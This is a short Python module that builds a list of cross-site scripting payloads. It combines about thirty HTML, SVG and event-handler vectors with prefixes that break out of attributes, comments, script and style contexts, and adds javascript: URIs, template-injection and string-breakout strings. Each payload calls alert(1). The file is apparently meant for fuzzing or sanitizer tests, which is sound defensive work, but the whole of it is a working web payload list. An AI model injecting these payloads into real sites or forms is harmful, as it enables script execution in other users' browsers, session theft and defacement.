"""Texts that run a script where a page takes them for markup: each calls alert."""

from itertools import product

# Out of what a text may stand in: an element, a quoted attribute, a script, style or comment.
_OUT_OF = ("", "\"'>", "--></title></textarea></script></style>", "\u2028</p>]]>")
_VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<style onload=alert(1)>x{}</style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<p style='animation:x' onanimationstart=alert(1)><style>@keyframes x{}</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1) onclick=alert(1) tabindex=0>x</b>",
)
_OTHERS = (
    "javascript:alert(1)",
    " java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "';alert(1)//",
    "\\';alert(1)//",
    "&lt;img src=x onerror=alert(1)&gt;",
)
PAYLOADS = (*(out + vector for out, vector in product(_OUT_OF, _VECTORS)), *_OTHERS)
